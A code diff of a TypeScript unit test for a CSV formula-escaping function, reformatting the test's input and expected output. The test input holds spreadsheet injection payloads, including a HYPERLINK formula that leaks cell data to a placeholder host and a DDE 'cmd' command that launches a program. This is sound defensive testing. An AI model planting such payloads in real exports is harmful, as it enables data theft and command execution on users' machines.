@@ -10,12 +10,13 @@ const text = (b: Uint8Array) => Buffer.from(b).toString('utf8');
 
 describe('escapeCsvFormulas', () => {
   it('writes formula cells as quoted text and leaves numbers, placeholders and other cells alone', () => {
-    const csv = '"=HYPERLINK(""http://x.test/?leak=""&A2,""click"")",=cmd|\' /C calc\'!A0,@SUM(1+1),+1+cmd|x,-2+3+cmd|x,\tTab,"\rCR"\n' +
+    const csv =
+      '"=HYPERLINK(""http://x.test/?leak=""&A2,""click"")",=cmd|\' /C calc\'!A0,@SUM(1+1),+1+cmd|x,-2+3+cmd|x,\tTab,"\rCR"\n' +
       '-5,+3,-1234.5,"-1,234.50",-1 234,5,-12%,-1E+05,-,+,"a ""quoted"" cell",plain,\n';
     const out = text(escapeCsvFormulas(utf8(csv), ',', 'utf-8'));
     expect(out).toBe(
       '"\'=HYPERLINK(""http://x.test/?leak=""&A2,""click"")","\'=cmd|\' /C calc\'!A0","\'@SUM(1+1)","\'+1+cmd|x","\'-2+3+cmd|x","\'\tTab","\'\rCR"\n' +
-      '-5,+3,-1234.5,"-1,234.50",-1 234,5,-12%,-1E+05,-,+,"a ""quoted"" cell",plain,\n',
+        '-5,+3,-1234.5,"-1,234.50",-1 234,5,-12%,-1E+05,-,+,"a ""quoted"" cell",plain,\n',
     );
   });
 
